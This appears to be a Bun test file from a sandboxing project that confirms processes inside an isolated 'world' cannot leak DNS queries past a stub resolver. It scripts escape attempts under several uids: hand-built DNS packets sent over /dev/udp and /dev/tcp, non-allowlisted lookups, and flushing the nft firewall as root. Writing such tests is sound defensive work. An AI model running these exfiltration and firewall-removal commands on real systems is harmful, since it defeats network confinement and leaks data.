/**
 * ATTACK (issue 15): DNS exfiltration / the pin leak. A process in a world, whatever uid it
 * switches to (root, nobody, a dnsmasq-like system uid, the caller), tries to reach a
 * resolver other than the stub: UDP and TCP straight to the test upstream, after flushing the
 * world's nft table as root, and by asking the stub for names that are not allowlisted.
 * Judged on the host side: the upstream resolver's own log never sees any of those names.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { rmSync } from "node:fs";
import { createEgressFixture, type EgressFixture } from "../integration/_egress-fixture.ts";
import { b64, startAgent, tempProject, type TestAgent } from "../helpers/agent.ts";

const isRoot = process.getuid?.() === 0;

describe.skipIf(!isRoot)("egress: no resolver but the stub, for any uid", () => {
  let fx: EgressFixture;
  let agent: TestAgent;
  let proj: string;

  beforeAll(async () => {
    fx = await createEgressFixture();
    await fx.setZone({ "allowed.test": { A: [fx.net(10)] } });
    agent = await startAgent({ env: { SUBSTRATE_WORLD_DNS_UPSTREAM: fx.dnsIp } });
    proj = tempProject();
  }, 60_000);
  afterAll(async () => {
    await agent?.stop();
    await fx?.close();
    rmSync(proj, { recursive: true, force: true });
  });

  const exec = (cmd: string) => agent.client.execute({ cmd, cwd: proj, agent_id: "pin", world: { project_dir: proj, allowed_domains: ["allowed.test", fx.cidr] } });

  test("UDP/TCP to the upstream and non-allowlisted names through the stub never reach the upstream", async () => {
    const dns = fx.dnsIp;
    // One DNS query in wire format for NAME (bash only: no tool needed in the world).
    const q = (name: string) =>
      `printf '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00${name
        .split(".")
        .map((l) => `\\x${l.length.toString(16).padStart(2, "0")}${l}`)
        .join("")}\\x00\\x00\\x01\\x00\\x01'`;
    const attempts = (tag: string) =>
      [
        `(${q(`exfil-udp-${tag}.test`)} > /dev/udp/${dns}/53) 2>/dev/null`,
        `(exec 3<>/dev/tcp/${dns}/53 && ${q(`exfil-tcp-${tag}.test`)} >&3) 2>/dev/null`,
        `getent hosts exfil-stub-${tag}.test >/dev/null`,
        `(${q(`exfil-stubwire-${tag}.test`)} > /dev/udp/127.0.0.53/53) 2>/dev/null`,
      ].join("; ");
    const uids = [0, 65534, 101, 1000];
    const script = [
      ...uids.map((u) => `setpriv --reuid ${u} --regid ${u} --clear-groups bash -c ${JSON.stringify(attempts(`u${u}`))} 2>/dev/null || echo "no-switch-${u}"`),
      // As root: remove the backstop (if the world lets us) and try again: still no way out.
      "nft flush ruleset 2>/dev/null && echo flushed",
      attempts("flushed"),
      "ls /sys/class/net",
      "true",
    ].join("\n");
    const r = await exec(script);
    expect(b64(r.stdout_b64)).toContain("lo\n");
    expect(b64(r.stdout_b64)).not.toMatch(/eth|veth/);
    await Bun.sleep(500);
    const leaked = fx.dnsLog.filter((l) => l.includes("exfil-"));
    expect(leaked).toEqual([]);
    // Control: the stub does forward an allowlisted name (so the probe above could see one).
    const ok = await exec("getent hosts allowed.test >/dev/null && curl -sS --max-time 10 http://allowed.test/");
    expect(b64(ok.stdout_b64)).toBe("ok 80\n");
    expect(fx.dnsLog.some((l) => l.includes("q allowed.test"))).toBe(true);
  }, 90_000);
});
